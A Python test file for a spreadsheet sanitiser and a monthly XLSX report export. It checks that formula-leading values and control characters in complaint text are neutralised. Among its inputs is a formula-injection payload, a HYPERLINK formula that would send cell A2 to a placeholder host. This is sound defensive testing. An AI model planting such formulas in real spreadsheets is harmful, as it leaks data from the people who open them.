"""The one spreadsheet sanitiser (issue 14, rows 1 and 2): no live formula, no character that breaks a file.

The sanitiser itself as a table, then the monthly report workbook built from hostile case text. The
dashboard's CSV/XLSX list export is checked in tests/web/test_hostile_input.py.
"""

import io
from datetime import datetime

import pytest
from openpyxl import load_workbook

from backend.domain import Severity
from backend.domain.commands import Assign
from backend.models import Department
from backend.reports_xlsx import write_monthly_xlsx
from backend.services.actors import Actor
from backend.services.reports import monthly_report
from backend.spreadsheet import safe_cell
from tests.factories import tenant_draft

SANITISER = [
    # value                                          cell
    ('=HYPERLINK("http://x/?"&A2,"click")', '\'=HYPERLINK("http://x/?"&A2,"click")'),
    ("=1+1 漏水", "'=1+1 漏水"),
    ("+86 138", "'+86 138"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tcmd", "'\tcmd"),
    ("\r=1", "'\r=1"),
    ("漏水 \u0001 bell", "漏水  bell"),
    ("保安\u001b", "保安"),
    ("\u0000=1+1", "'=1+1"),  # removing a character must not uncover a formula
    ("a\u0008b\u000bc\u000cd\u001fe", "abcde"),
    ("bad \ud800 surrogate \ufffe\uffff", "bad  surrogate "),
    ("line one\nline two\ttab\rCR", "line one\nline two\ttab\rCR"),  # legal inside text
    ("2栋 = 漏水", "2栋 = 漏水"),  # only the first character counts
    ("'=already text", "'=already text"),
    ("—", "—"),
    ("", ""),
    ("QC-20261123-0001", "QC-20261123-0001"),
    (42, 42),
    (-3.5, -3.5),  # numbers stay numbers, signs and all
    (None, None),
    (datetime(2026, 11, 23, 10, 0), datetime(2026, 11, 23, 10, 0)),
]


@pytest.mark.parametrize(("value", "cell"), SANITISER)
def test_sanitiser(value, cell):
    assert safe_cell(value) == cell
    assert safe_cell(safe_cell(value)) == cell  # applying it twice changes nothing


HOSTILE_SUBJECT = '=HYPERLINK("http://x/?"&A2,"click")'
HOSTILE_DESCRIPTION = "=1+1 燃气味很重 \u0001 bell"


def every_cell(workbook):
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


async def test_monthly_report_workbook_has_no_formula_and_survives_control_characters(
    service, settings, clock
):
    await Department.create(code="eng", name="@工程部\u001b")
    major = await service.submit(
        tenant_draft(
            description=HOSTILE_DESCRIPTION, subject=HOSTILE_SUBJECT, severity=Severity.MAJOR
        ),
        Actor.system(),
    )
    await service.handle(Assign(ref=major.number, department_code="eng"), Actor.system())
    await service.submit(
        tenant_draft(description="保安\u001b 态度差", subject="-保安\u001b", telegram_id=778),
        Actor.system(),
    )
    report = await monthly_report(2026, 11, settings, clock.now(), locale="en")
    buffer = io.BytesIO()
    write_monthly_xlsx(report, buffer, "en")
    workbook = load_workbook(io.BytesIO(buffer.getvalue()))
    cells = list(every_cell(workbook))
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'" + HOSTILE_SUBJECT in texts and "'-保安" in texts and "'@工程部" in texts
    assert any(text.startswith("'=1+1 燃气味很重") and "\u0001" not in text for text in texts)
    assert not any(ch in text for text in texts for ch in "\u0000\u0001\u001b")
